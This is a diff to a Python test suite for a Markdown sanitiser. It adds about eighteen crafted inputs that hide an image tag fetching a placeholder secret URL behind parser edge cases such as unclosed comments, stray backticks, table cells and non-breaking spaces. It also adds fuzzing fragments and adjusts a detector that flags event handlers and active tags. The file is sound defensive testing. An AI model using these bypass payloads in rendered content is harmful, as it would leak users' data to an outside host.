@@ -70,6 +70,24 @@ EXFILTRATION = {
     "code over carriage return": f"`\r- <img src='{SECRET_URL}'>`",
     "html block, carriage returns": f"<div>\r\n```\r\n<img src='{SECRET_URL}'>",
     "fence closed late": f"~~~\nx\n~~~ y\n~~~\n<img src='{SECRET_URL}'>",
+    "comment never closed": f"<!-- <img src='{SECRET_URL}'>",
+    "code over lines": f"a ` b\n`<img src='{SECRET_URL}'>` c",
+    "escaped backtick": f"\\`<img src='{SECRET_URL}'>`",
+    "code through cells": f"| a | b |\n|---|---|\n| ` | <img src='{SECRET_URL}'> ` |",
+    "backtick in destination": f"[a](x`y) <img src='{SECRET_URL}'> `",
+    "backtick in title": f"[a](x \"`\") <img src='{SECRET_URL}'> `",
+    "backtick in definition": f"[a]: x`y\n<img src='{SECRET_URL}'>`",
+    "fence in what is no comment": f"a <!--\n\n~~~\n-->\n~~~\n<img src='{SECRET_URL}'>",
+    "tag in what is no value": f"<b title=\"\n\n<img src='{SECRET_URL}'>\">",
+    "tag that an escape completes": f"<b a=<img src='{SECRET_URL}'>",
+    "tag in unfinished tag of a block": f"<div <b onclick=1 src='{SECRET_URL}'>",
+    "line that only looks blank": f"<div>\n\xa0\n```\n<img src='{SECRET_URL}'>",
+    "line that begins blank": f"<div>\n          x\n```\n<img src='{SECRET_URL}'>",
+    "fence that only looks closed": f"```\nx\n```\xa0\n```\n<img src='{SECRET_URL}'>",
+    "fence behind quoted html": f"> <div>\n```\n\n```\n<img src='{SECRET_URL}'>",
+    "tag in unfinished pre": f"<pre\n\n```\n<img src='{SECRET_URL}'>\n```",
+    "escaped tag in pre": f"<pre>\n\n<a\xa0<img src='{SECRET_URL}'>",
+    "tag in what is no label": f"![x][a <img src='{SECRET_URL}'>] y",
     "fence with backtick": f'``` a`b\n<img src="{SECRET_URL}">',
 }
 ACTIVE = {
@@ -137,6 +155,9 @@ class Fetches(HTMLParser):
         if tag in {"script", "style", "iframe", "form", "svg", "base", "meta", "link", "object", "input"}:
             self.found.append(tag)
         for name, value in attrs:
+            # A fence's info string is shown as a class, and the text of an image as text.
+            if (tag, name) in {("code", "class"), ("img", "alt")}:
+                continue
             if (
                 name.startswith("on")
                 or "evil" in (value or "")
@@ -146,10 +167,14 @@ class Fetches(HTMLParser):
             ):
                 self.found.append((tag, name, value))
 
+    def parse_marked_section(self, start, report=1):
+        """Read `<![` as a browser does: the standard library's parser gives up on it."""
+        return self.parse_bogus_comment(start)
+
 
 def rendered(text):
     """Markdown to HTML by an independent parser."""
-    markdown = pytest.importorskip("markdown_it").MarkdownIt("commonmark", {"html": True})
+    markdown = pytest.importorskip("markdown_it").MarkdownIt("commonmark", {"html": True}).enable("table")
     markdown.validateLink = lambda url: True
     return markdown.render(text)
 
@@ -394,13 +419,34 @@ HOSTILE = st.sampled_from(
         "\u202e",
         "word ",
         "\t",
+        "\\`",
+        "|",
+        "| a |\n|---|\n| ",
+        "<div",
+        "<div>",
+        "<y ",
+        '<b title="',
+        "<![CDATA[",
+        "\xa0",
+        "\r\n",
+        "](x",
+        "](x)",
+        ' "t',
+        "]: x",
+        "'",
+        '"',
+        "=",
+        ">",
+        "1. ",
     ]
 )
 
 
-@settings(max_examples=400, deadline=None)
+@settings(max_examples=600, deadline=None)
 @given(st.lists(HOSTILE, max_size=12))
 def test_nothing_around_an_attack_brings_it_past_the_guard(pieces):
-    """Fences, quotes, lists, comments and half tags in any order: an independent parser finds nothing that acts."""
-    found, _ = fetches(guard("".join(pieces)).text)
+    """Fences, quotes, lists, tables, comments and half tags in any order: an independent parser finds nothing that acts."""
+    once = guard("".join(pieces)).text
+    found, _ = fetches(once)
     assert found == []
+    assert guard(once) == Guarded(once)
